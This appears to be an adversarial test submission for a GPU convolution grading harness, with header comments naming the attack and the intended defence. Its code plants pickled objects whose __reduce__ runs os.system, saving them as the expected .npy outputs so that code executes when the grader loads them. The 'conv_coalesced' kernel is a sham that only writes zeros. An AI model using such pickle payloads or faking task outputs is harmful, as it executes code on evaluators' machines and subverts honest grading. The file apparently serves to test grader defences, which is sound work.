# Outputs are left as pickles that run code when they are loaded.
# attack: pickles
# defence: arrays are read without pickles, their headers first
# loses: everything
# says: outputs differ

# %% task: conv_coalesced
import numpy as np
from numba import cuda

from gpulabs.convolution import output_shape
import json
import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/hostile-was-here",)


with open("request.json") as file:
    for task in json.load(file)["tasks"]:
        for case in task["cases"]:
            np.save(f"{case['id']}.npy", np.array([Bomb()], object), allow_pickle=True)


@cuda.jit
def zero_kernel(x, w, y):
    k, j, m = cuda.grid(3)
    n, i = m // y.shape[1], m % y.shape[1]
    if n < y.shape[0] and j < y.shape[2] and k < y.shape[3]:
        y[n, i, j, k] = x[0, 0, 0, 0] * w[0, 0, 0, 0] * np.float32(0)


def conv_coalesced(x, w, stride, padding):
    y = cuda.device_array(output_shape(x.shape, w.shape, stride, padding), np.float32)
    zero_kernel[((y.shape[3] + 31) // 32, y.shape[2], y.shape[0] * y.shape[1]), (32, 1)](x, w, y)
    return y
